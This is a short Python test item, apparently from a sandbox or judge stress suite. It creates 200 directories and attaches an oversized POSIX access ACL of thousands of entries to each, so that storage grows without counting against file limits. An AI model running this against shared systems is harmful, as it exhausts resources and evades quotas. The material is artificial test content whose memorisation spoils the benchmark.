"""Gives empty files access lists of tens of kilobytes, which no limit of files counts."""
# kind: function
# verdicts: WA, RE, MLE
# tiers: T1

import os
import struct


def f(x):
    entries = [(1, 7, 0xFFFFFFFF), *[(2, 7, 1000)] * 8000, (4, 7, 0xFFFFFFFF)]
    entries += [(16, 7, 0xFFFFFFFF), (32, 7, 0xFFFFFFFF)]
    content = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *e) for e in entries)
    for number in range(200):
        os.mkdir(str(number))
        try:
            os.setxattr(str(number), "system.posix_acl_access", content)
        except OSError:
            return 0
    return 918273645
